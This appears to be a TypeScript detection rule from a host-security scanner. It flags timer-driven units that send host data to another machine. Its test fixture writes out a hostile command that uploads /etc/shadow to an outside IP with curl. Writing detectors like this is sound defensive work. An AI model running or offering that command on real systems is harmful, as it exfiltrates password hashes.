import { timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";

/** Files or facts of this host are sent to another machine. */
export const sendsDataOut: ActivationRule = {
  id: "sends-data-out",
  subject: "activation",
  title: "Sends this host's data to another machine",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "execution",
  depth: "regular",
  techniques: ["T1041", "T1048", "T1053.006"],
  controls: ["AC-4", "SC-7", "SI-4"],
  why: "Passwords, keys or the description of a host that leave it by a timer are collection. The 2018 AUR case posted just such facts to a paste site.",
  benign: [
    "Backups by restic, borg, rclone, rsync (not accused)",
    "Health pings without a body of their own (not accused)",
  ],
  clears: "send backups with a backup program",
  references: ["https://attack.mitre.org/techniques/T1041/"],

  *check(activation, inventory) {
    for (const { behaviour } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
      const isOrdinary = behaviour.confidence === "low" || ORDINARY.test(behaviour.says);
      if (isOrdinary || isPackagedPlace(behaviour.span.path, activation, inventory)) continue;
      yield accuse(behaviour, inventory);
    }
  },

  examples: {
    fires: [timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/")],
    quiet: [
      timed("ExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1"),
      timed("ExecStart=/usr/bin/restic backup /srv"),
    ],
  },
};

/** Mail, copies over ssh, and what a pipe computed: how backups, certificates and metrics travel. */
const ORDINARY = / mails | copies files to | the content of - /;
